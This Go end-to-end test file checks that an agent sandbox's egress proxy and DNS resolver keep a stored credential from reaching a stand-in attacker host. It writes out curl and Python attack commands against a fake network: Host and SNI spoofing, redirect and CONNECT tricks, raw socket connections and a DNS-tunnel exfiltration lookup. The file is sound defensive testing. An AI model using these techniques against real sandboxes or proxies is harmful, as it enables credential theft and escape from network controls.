package outside

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agentbox/agentbox/e2e/harness"
	"github.com/agentbox/agentbox/internal/testutil"
	agentbox "github.com/agentbox/agentbox/sdk/go"
)

// TestEgressAttacks: code in a sandbox against the egress proxy and the
// resolver. A fake internet stands in for the real one (the server's own
// nameserver and CA point at it): api.rule.test is the service a header
// rule holds a credential for, other.test the attacker's server.
func TestEgressAttacks(t *testing.T) {
	harness.RequireRoot(t)
	fake := testutil.NewFakeNet(t, "eout", netip.MustParsePrefix("198.18.5.0/24"), 3, map[string]netip.Addr{
		"allowed.test":  netip.MustParseAddr("198.18.5.10"),
		"api.rule.test": netip.MustParseAddr("198.18.5.11"),
		"other.test":    netip.MustParseAddr("198.18.5.12"),
	})
	const allowed, api, evil = "198.18.5.10", "198.18.5.11", "198.18.5.12"
	caFile := filepath.Join(t.TempDir(), "fake-ca.pem")
	if err := os.WriteFile(caFile, fake.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	s := harness.Start(t, harness.Name("egress-attacks"), harness.Args("--egress-dns", fake.DNS.String(), "--egress-ca-file", caFile))
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Minute)
	defer cancel()
	client := agentbox.New(agentbox.WithAPIURL(s.URL), agentbox.WithAPIKey(s.APIKey), agentbox.WithSandboxURL(s.URL))

	rnd := make([]byte, 12)
	_, _ = rand.Read(rnd)
	secret := "sk-outside-" + hex.EncodeToString(rnd)
	if st, b, err := s.Do(ctx, s.APIKey, http.MethodPost, "/secrets", map[string]any{"name": "OUTSIDE_TOKEN", "value": secret}); err != nil || st != http.StatusCreated {
		t.Fatalf("create secret: %d %s %v", st, b, err)
	}
	create := func(t *testing.T, body map[string]any) *agentbox.Sandbox {
		t.Helper()
		body["templateID"], body["timeout"] = "base", 600
		st, b, err := s.Do(ctx, s.APIKey, http.MethodPost, "/v2/sandboxes", body)
		if err != nil || st != http.StatusCreated {
			t.Fatalf("create sandbox: %d %s %v", st, b, err)
		}
		id := jsonField(t, b, "sandboxID")
		t.Cleanup(func() { _, _, _ = s.Do(context.Background(), s.APIKey, http.MethodDelete, "/sandboxes/"+id, nil) })
		sb, err := client.Connect(ctx, id, 10*time.Minute)
		if err != nil {
			t.Fatal(err)
		}
		return sb
	}
	// sh runs cmd in sb; its output is what the attack learnt.
	sh := func(t *testing.T, sb *agentbox.Sandbox, cmd string) string {
		t.Helper()
		r, err := sb.Commands.Run(ctx, cmd+"; true", agentbox.WithTimeout(60*time.Second))
		if err != nil {
			t.Fatalf("run %q: %v", cmd, err)
		}
		return r.Stdout + r.Stderr
	}
	// leak is a crossing when the secret reached any server but api.rule.test's
	// own address, or that one over plain HTTP (the rule did not opt in).
	leak := func(path string) error {
		for _, r := range fake.Requests() {
			if r.Path != path {
				continue
			}
			for _, vs := range r.Header {
				if strings.Contains(strings.Join(vs, ","), secret) && (!strings.HasPrefix(r.Local, api+":") || r.Scheme != "https") {
					return crossed("the credential reached %s://%s%s at %s", r.Scheme, r.Host, r.Path, r.Local)
				}
			}
		}
		return nil
	}
	reached := func(path string) bool {
		for _, r := range fake.Requests() {
			if r.Path == path {
				return true
			}
		}
		return false
	}

	rules := map[string]any{"api.rule.test": []any{map[string]any{"transform": map[string]any{"headers": map[string]string{"Authorization": "Bearer ${secrets.OUTSIDE_TOKEN}"}}}}}
	withRules := create(t, map[string]any{"network": map[string]any{"rules": rules}})
	domains := create(t, map[string]any{"network": map[string]any{"allowOut": []string{"allowed.test"}, "denyOut": []string{"ALL_TRAFFIC"}}})
	offline := create(t, map[string]any{"allow_internet_access": false, "network": map[string]any{"allowOut": []string{evil + "/32"}}})

	// The control: the rule works where it should, or no attack below
	// means anything.
	if out := sh(t, withRules, "curl -sS -m 8 https://api.rule.test/control"); !reached("/control") {
		t.Fatalf("the rule's own request did not arrive: %s", out)
	}
	if !strings.Contains(strings.Join(headerOf(fake, "/control", "Authorization"), ""), secret) {
		t.Fatalf("control request arrived without the credential")
	}

	runAttacks(t, []attack{
		{side: sideSandboxProxy, name: "Host header names the rule's domain, address is the attacker's", run: func(t *testing.T) error {
			sh(t, withRules, "curl -sS -m 8 -H 'Host: api.rule.test' http://"+evil+"/host-spoof")
			return leak("/host-spoof")
		}},
		{side: sideSandboxProxy, name: "TLS with the rule's SNI to the attacker's address", run: func(t *testing.T) error {
			out := sh(t, withRules, "curl -sS -m 8 --resolve api.rule.test:443:"+evil+" https://api.rule.test/sni-spoof")
			if err := leak("/sni-spoof"); err != nil {
				return err
			}
			for _, r := range fake.Requests() {
				if r.Path == "/sni-spoof" && !strings.HasPrefix(r.Local, api+":") {
					return crossed("the request went to the sandbox's choice %s", r.Local)
				}
			}
			if !reached("/sni-spoof") {
				return fmt.Errorf("the request arrived nowhere: %s", out)
			}
			return nil
		}},
		{side: sideSandboxProxy, name: "plain HTTP to the rule's domain without allowPlainHTTP", run: func(t *testing.T) error {
			sh(t, withRules, "curl -sS -m 8 http://api.rule.test/plain")
			return leak("/plain")
		}},
		{side: sideSandboxProxy, name: "redirect from the rule's domain to the attacker", run: func(t *testing.T) error {
			sh(t, withRules, "curl -sS -m 8 -L 'https://api.rule.test/redirect?to=http://other.test/landing'")
			if !reached("/landing") {
				return fmt.Errorf("the redirect was not followed")
			}
			return leak("/landing")
		}},
		{side: sideSandboxProxy, name: "second request on the kept-alive TLS connection names another host", run: func(t *testing.T) error {
			out := sh(t, withRules, "curl -sS -m 8 https://api.rule.test/first -o /dev/null --next -H 'Host: other.test' https://api.rule.test/second -w '%{http_code}'")
			if err := leak("/second"); err != nil {
				return err
			}
			if !strings.HasSuffix(strings.TrimSpace(out), "421") {
				return crossed("the second request was answered %q, want the proxy's 421", out)
			}
			return nil
		}},
		{side: sideSandboxProxy, name: "CONNECT through the transparent proxy", run: func(t *testing.T) error {
			sh(t, withRules, "curl -sS -m 8 -x http://"+evil+":80 https://api.rule.test/connect")
			return leak("/connect")
		}},
		{side: sideSandboxProxy, name: "denied Host over plain HTTP gets a 403 saying why", run: func(t *testing.T) error {
			out := sh(t, domains, "curl -sS -m 8 -H 'Host: other.test' http://"+allowed+"/denied-host -w ' %{http_code}'")
			if reached("/denied-host") {
				return crossed("the request reached the fake internet: %s", out)
			}
			if !strings.Contains(out, "403") || !strings.Contains(out, "denyOut ALL_TRAFFIC") {
				return fmt.Errorf("want a 403 naming the rule, got %q", out)
			}
			return nil
		}},
		{side: sideSandboxProxy, name: "SYN to a denied address (internet off)", run: func(t *testing.T) error {
			out := sh(t, offline, `python3 -c "
import socket, time
s = socket.socket(); s.settimeout(3); t = time.time()
try:
    s.connect(('`+allowed+`', 7)); print('connected', round(time.time() - t, 3))
except OSError as e:
    print('error', e.errno, round(time.time() - t, 3))"`)
			f := strings.Fields(out)
			took := 99.0
			if len(f) == 3 {
				took, _ = strconv.ParseFloat(f[2], 64)
			}
			switch {
			case len(f) == 3 && f[0] == "connected":
				return crossed("connect() succeeded: %s", out)
			case len(f) == 3 && f[0] == "error" && f[1] == "111" && took < 1:
				return nil // ECONNREFUSED at once
			default:
				return crossed("want ECONNREFUSED at once, got %q", out)
			}
		}},
		{side: sideSandboxProxy, name: "UDP to a denied address (internet off)", run: func(t *testing.T) error {
			out := sh(t, offline, `python3 -c "
import socket
for _ in range(3):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(('`+allowed+`', 7))
    try:
        s.send(b'ping'); print('echo', s.recv(16)); break
    except socket.timeout:
        print('timeout')
    except OSError as e:
        print('error', e.errno); break"`)
			switch {
			case strings.Contains(out, "echo"):
				return crossed("the datagram was answered: %s", out)
			case strings.Contains(out, "error 111"), strings.Contains(out, "error 113"):
				return nil
			default:
				return crossed("no refusal, only %q", strings.TrimSpace(out))
			}
		}},
		{side: sideSandboxResolver, name: "DNS tunnel: a data-carrying name with the internet off", run: func(t *testing.T) error {
			label := "exfil-" + hex.EncodeToString(rnd[:6])
			out := sh(t, offline, `python3 -c "
import socket, time
t = time.time()
try:
    print('resolved', socket.gethostbyname('`+label+`.other.test'))
except OSError as e:
    print('failed', round(time.time() - t, 3))"`)
			for _, q := range fake.Queries() {
				if strings.Contains(q, label) {
					return crossed("the name reached the upstream nameserver (%s)", q)
				}
			}
			if !strings.HasPrefix(out, "failed") {
				return crossed("resolved: %s", out)
			}
			return nil
		}},
	})
}

// headerOf returns header name of the requests to path the fake internet got.
func headerOf(fake *testutil.FakeNet, path, name string) []string {
	var out []string
	for _, r := range fake.Requests() {
		if r.Path == path {
			out = append(out, r.Header.Values(name)...)
		}
	}
	return out
}
